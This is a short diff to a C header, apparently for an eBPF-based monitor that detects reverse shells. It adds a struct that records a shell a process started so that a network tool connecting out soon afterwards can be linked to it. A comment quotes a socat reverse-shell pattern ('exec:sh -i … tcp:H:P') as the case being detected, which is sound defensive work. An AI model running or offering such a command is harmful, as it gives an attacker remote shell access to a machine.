@@ -586,6 +586,16 @@ struct pw_relay_connection {
  * is the process's fd 0, "writes" as fd 1 or 2. A relay and its shell are on
  * opposite sides (the relay reads what the shell writes, or the reverse):
  * processes that merely share a container's log pipe as stdout are not. */
+/* A stdin-reading shell a process started (by the parent's tgid): a
+ * network tool that connects out within the window after starting it is its
+ * relay (`socat exec:'sh -i',pty tcp:H:P` starts the shell first). */
+struct pw_relay_shell {
+	__u64 exec_ns;
+	__u64 parent_start_ns; /* the parent's start: a reused tgid is not it */
+	__u32 tgid;
+	__u32 pad;
+};
+
 /* A pipe or FIFO by its inode (pipes' inode numbers are not reused soon;
  * the kernel's pipe object would be, at once). */
 struct pw_pipe_key {
